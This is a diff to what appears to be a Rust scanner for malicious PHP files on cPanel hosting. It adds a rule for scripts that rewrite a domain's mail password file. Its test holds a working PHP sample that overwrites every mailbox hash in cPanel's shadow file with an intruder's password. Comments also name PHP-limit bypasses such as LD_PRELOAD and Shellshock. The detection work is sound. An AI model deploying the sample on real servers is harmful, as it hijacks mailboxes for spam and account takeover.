@@ -229,6 +229,9 @@ pub enum Why {
     /// the mail program (`LD_PRELOAD`), Shellshock through the environment, or a command hidden
     /// in an IMAP address (`-oProxyCommand`).
     BypassesPhpLimits,
+    /// Writes cPanel's list of the account's mail passwords (`~/etc/DOMAIN/shadow`) with a hash
+    /// it made: every mailbox gets the intruder's password (to send spam as the site).
+    RewritesMailPasswords,
     /// The checks failed on this file (a fault of ours): nothing is known of its content.
     CheckFailed,
 }
@@ -315,6 +318,7 @@ impl Why {
             Why::InstallsCronJob => "installs_cron_job",
             Why::SendsRequestToHiddenAddress => "sends_request_to_hidden_address",
             Why::BypassesPhpLimits => "bypasses_php_limits",
+            Why::RewritesMailPasswords => "rewrites_mail_passwords",
             Why::CheckFailed => "check_failed",
         }
     }
@@ -1753,5 +1757,16 @@ mod tests {
         assert_eq!(whys("y.php", lister), [Why::FileReadFromInput]);
         // A fixed file or folder is the script's own business.
         assert!(whys("r.php", &reader.replace("@fopen($a, 'r')", "@fopen('news.txt', 'r')")).is_empty());
+    }
+
+    #[test]
+    fn a_script_that_rewrites_the_mail_passwords_is_found() {
+        // fresh91's `smtp.php`: cPanel's list of a domain's mail passwords written again with a
+        // hash of the intruder's password for every mailbox.
+        let reset = "<?php $u = get_current_user(); $d = $_SERVER['SERVER_NAME']; $h = crypt('pw', '$6$x$');\n$p = '/home/' . $u . '/etc/' . $d . '/shadow'; $old = file($p); unlink($p);\nforeach ($old as $l) { $b = explode(':', $l); $f = fopen($p, 'ab'); fwrite($f, $b[0] . ':' . $h . \"\\n\"); }";
+        assert_eq!(whys("smtp.php", reset), [Why::RewritesMailPasswords]);
+        // A copy of the list kept by a backup script makes no password.
+        let copy = reset.replace("crypt('pw', '$6$x$')", "date('Ymd')");
+        assert!(!whys("smtp.php", &copy).contains(&Why::RewritesMailPasswords));
     }
 }
